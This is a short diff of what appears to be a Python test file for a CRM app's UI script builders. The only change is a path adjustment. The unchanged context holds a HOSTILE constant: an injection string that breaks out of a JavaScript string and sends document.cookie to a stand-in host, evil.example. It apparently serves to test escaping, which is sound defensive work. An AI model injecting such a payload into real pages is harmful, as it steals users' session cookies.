@@ -15,7 +15,7 @@ from pkcrm_app.ui.pages.board import reply_state
 from pkcrm_app.ui.pages.whatsapp_settings import state as whatsapp_settings
 
 HOSTILE = "x'); fetch('https://evil.example/?c=' + document.cookie); ('\"</script>\u2028"
-UI = Path(__file__).resolve().parents[2] / "pkcrm_app" / "ui"
+UI = Path(__file__).resolve().parents[3] / "pkcrm_app" / "ui"
 
 BUILDERS: dict[str, Callable[[str], str]] = {
     "post (url)": lambda value: browser.post_script(value),
